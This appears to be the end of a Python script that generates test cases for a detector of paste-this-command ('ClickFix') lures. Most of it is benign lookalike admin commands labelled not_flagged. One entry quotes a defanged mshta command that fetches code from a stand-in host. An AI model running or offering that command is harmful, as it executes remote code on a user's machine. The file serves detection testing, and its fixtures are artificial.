    ('ok-ps-admin', "$name = 'World'; '{0}, {1}!' -f 'Hello', $name", 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', "[char[]](72,101,108,108,111) -join ''", 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', "$s = 'dlrow olleh'; -join $s[-1..-($s.Length)]", 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', "[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('user:pass'))", 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Invoke-RestMethod https://api.github.com/repos/PowerShell/PowerShell/releases/latest | Select-Object tag_name', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Invoke-WebRequest https://www.example.org/files/report.csv -OutFile $env:USERPROFILE\\Downloads\\report.csv', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Set-ExecutionPolicy -Scope CurrentUser RemoteSigned', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Get-MpPreference | Select-Object DisableRealtimeMonitoring, ExclusionExtension', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Resolve-DnsName -Type TXT _dmarc.example.org | Select-Object -ExpandProperty Strings', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Test-NetConnection files.corp.example -Port 445', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Start-Process notepad.exe -ArgumentList C:\\Temp\\notes.txt', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Expand-Archive .\\release-2.4.zip -DestinationPath .\\release', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Get-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', "[System.Drawing.Bitmap]::FromFile('C:\\Pictures\\logo.png').Size", 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', '$ExecutionContext.SessionState.Path.CurrentLocation', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Get-Clipboard | Set-Content .\\clip.txt', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'ipconfig /flushdns && nslookup www.example.org', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'nslookup -q=txt example.org 1.1.1.1', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'for /f "tokens=2 delims=:" %a in (\'ipconfig ^| findstr IPv4\') do echo %a', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'set PATH=%PATH%;C:\\Tools\\bin && where git', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'net use Z: \\\\fileserver\\projects /persistent:yes', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'pushd \\\\nas01\\backup && dir /b && popd', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'certutil -hashfile .\\tools\\report-builder-2.1.msi SHA512', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'msiexec /i C:\\Users\\me\\Downloads\\vlc-3.0.21-win64.msi /qn', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'schtasks /query /fo LIST /v | findstr TaskName', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'wmic logicaldisk get caption,freespace,size', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'curl -o %USERPROFILE%\\Downloads\\data.json https://api.example.org/v1/data', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'tar -xf archive.zip -C %USERPROFILE%\\Projects', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'finger user@localhost', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-run-box', '%temp%', 'not_flagged', 'any', 'run_dialog', 'https://learn.example.org/docs/admin'),
    ('ok-run-box', 'timedate.cpl', 'not_flagged', 'any', 'run_dialog', 'https://learn.example.org/docs/admin'),
    ('ok-run-box', '\\\\fileserver\\projects', 'not_flagged', 'any', 'run_dialog', 'https://learn.example.org/docs/admin'),
    ('ok-run-box', 'https://www.example.org/help', 'not_flagged', 'any', 'run_dialog', 'https://learn.example.org/docs/admin'),
    ('ok-explorer-bar', 'C:\\Users\\Public\\Documents', 'not_flagged', 'any', 'explorer_bar', 'https://learn.example.org/docs/admin'),
    ('ok-explorer-bar', '%LOCALAPPDATA%\\Programs\\Microsoft VS Code', 'not_flagged', 'any', 'explorer_bar', 'https://learn.example.org/docs/admin'),
    ('ok-mac', 'brew install --cask rectangle && brew install jq', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-mac', "echo 'SGVsbG8sIHdvcmxkIQ==' | base64 -D", 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-mac', 'xattr -l ~/Downloads/App.dmg', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-mac', 'osascript -e \'display notification "Build done" with title "Xcode"\'', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-mac', 'security find-identity -v -p codesigning', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-mac', 'hdiutil attach ~/Downloads/Firefox.dmg && cp -R /Volumes/Firefox/Firefox.app /Applications/', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-mac', 'launchctl list | grep -i docker', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-mac', 'defaults write com.apple.finder AppleShowAllFiles -bool true && killall Finder', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'curl -s https://api.github.com/repos/quietfox/tidy | jq .stargazers_count', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'wget -qO- https://example.org/checksums.txt | grep tool-1.2', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'python3 -c "import base64;print(base64.b64decode(\'aGVsbG8=\'))"', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'crontab -l | grep backup', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'echo "export PATH=$HOME/.local/bin:$PATH" >> ~/.bashrc', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'ssh-keygen -t ed25519 -C me@example.org && cat ~/.ssh/id_ed25519.pub', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'tar czf backup.tgz ~/.ssh ~/.gnupg && mv backup.tgz /media/usb/', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'nc -zv db.internal.example 5432', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'chmod +x ./gradlew && ./gradlew build', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'systemctl --user enable --now syncthing.service', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'sudo apt-get update && sudo apt-get install -y ripgrep', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-js', "localStorage.getItem('theme')", 'not_flagged', 'any', 'browser_console', 'https://learn.example.org/docs/admin'),
    ('ok-js', "fetch('/api/me').then(r => r.json()).then(console.log)", 'not_flagged', 'any', 'browser_console', 'https://learn.example.org/docs/admin'),
    ('ok-js', "JSON.parse(atob('eyJhIjoxfQ=='))", 'not_flagged', 'any', 'browser_console', 'https://learn.example.org/docs/admin'),
    ('ok-js', 'String.fromCharCode(72, 105)', 'not_flagged', 'any', 'browser_console', 'https://learn.example.org/docs/admin'),
    ('ok-js', 'document.querySelectorAll(\'a[href^="http"]\').forEach(a => console.log(a.href))', 'not_flagged', 'any', 'browser_console', 'https://learn.example.org/docs/admin'),
    ('ok-js', "new WebSocket('wss://echo.websocket.example/').onmessage = e => console.log(e.data)", 'not_flagged', 'any', 'browser_console', 'https://learn.example.org/docs/admin'),
    ('ok-js', 'navigator.clipboard.writeText(location.href)', 'not_flagged', 'any', 'browser_console', 'https://learn.example.org/docs/admin'),
    ('ok-text', 'Your Microsoft 365 subscription renews on 12 March. Manage billing at account.microsoft.com.', 'not_flagged', 'any', 'other', None),
    ('ok-text', 'Verification complete. You can close this tab and return to the application.', 'not_flagged', 'any', 'other', 'https://learn.example.org/docs/admin'),
    ('ok-text', 'ClickFix pages tell visitors to press Win+R and paste a command such as mshta hxxps://example[.]test/x; never do that.', 'not_flagged', 'any', 'other', 'https://learn.example.org/docs/admin'),
    ('ok-text', 'Reminder: your dentist appointment is on Friday at 10:30. Call 555-0142 to reschedule.', 'not_flagged', 'any', 'other', None),
    ('ok-text', 'To join the Teams meeting on a phone, dial +1 555-0100 and enter the conference ID 482 901 337#.', 'not_flagged', 'any', 'other', None),
    ('ok-oauth', 'Register http://localhost:8400/callback as the redirect URI and keep the client secret out of the repository.', 'not_flagged', 'any', 'other', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', '& "$env:ProgramFiles\\Git\\bin\\git.exe" status --short', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', '$ShellId; $PSHOME; $PSVersionTable.PSVersion', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', "''.SubString.OverloadDefinitions", 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'cp /usr/share/applications/org.keepassxc.KeePassXC.desktop ~/.config/autostart/', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-linux', 'curl -fsSL https://example.org/wallpapers/dunes.png -o ~/Pictures/dunes.png', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-oauth', 'After sign-in Google shows a code such as 4/0AX4XfWhq8Lm2Kp9QzR8sT0vW3; paste it into your application, which exchanges it at the token endpoint.', 'not_flagged', 'any', 'other', 'https://learn.example.org/docs/admin'),
    ('ok-js', "const cred = await navigator.credentials.get({publicKey: options}); await fetch('/api/webauthn/verify', {method: 'POST', body: JSON.stringify(cred)})", 'not_flagged', 'any', 'browser_console', 'https://learn.example.org/docs/admin'),
    ('ok-js', "const w = new Worker('/static/js/search-worker.js'); w.postMessage({q: 'shoes'})", 'not_flagged', 'any', 'browser_console', 'https://learn.example.org/docs/admin'),
    ('ok-js', 'Reflect.apply(Math.max, null, [3, 9, 4])', 'not_flagged', 'any', 'browser_console', 'https://learn.example.org/docs/admin'),
    ('ok-mac', 'osascript -e \'tell application "Terminal" to do script "cd ~/Projects/site && npm run dev"\'', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-mac', "system_profiler SPHardwareDataType | grep -i 'model name'", 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'reg query HKCU\\Software\\Classes\\ms-settings /s', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-cmd-admin', 'netsh advfirewall show allprofiles state', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-mac-instr-de', 'Öffnen Sie das Terminal (Befehl + Leertaste, „Terminal“ eingeben) und fügen Sie ein:\nbrew install --cask firefox', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/mac'),
    ('ok-mac-instr-fr', 'Ouvrez le Terminal avec Commande + Espace, puis collez : xcode-select --install', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/mac'),
    ('ok-mac-instr-en', 'Press Cmd + Space, type Terminal, then paste: softwareupdate --list', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/mac'),
    ('ok-url-docs', 'https://learn.example.org/windows/how-to-write-an-hta-application.html', 'not_flagged', 'any', 'run_dialog', 'https://learn.example.org/docs/mac'),
    ('ok-url-zip', 'https://github.com/quietfox/tidy/releases/download/v1.2.0/tidy-windows.zip', 'not_flagged', 'any', 'run_dialog', 'https://github.com/quietfox/tidy'),
]  # fmt: skip


def probed() -> list[dict[str, str]]:
    out = []
    for n, (technique, text, expect, platform, target, page) in enumerate(PROBED, 1):
        out.append(case(f"l4-{technique}-{n:03d}", text, expect, technique, platform, target, page))
        bare = "flagged"
        out.append(case(f"l4-{technique}-{n:03d}-bare", text, bare, technique, platform, "unknown"))
    return out


def lookalikes() -> list[dict[str, str]]:
    return [
        case(f"l4-{technique}-{n:03d}", text, expect, BENIGN, platform, target, page)
        for n, (technique, text, expect, platform, target, page) in enumerate(LOOKALIKES, 1)
    ]


def build() -> list[dict[str, str]]:
    cases = [*wrapped_base64(), *wrapped_base64_benign(), *probed(), *lookalikes()]
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
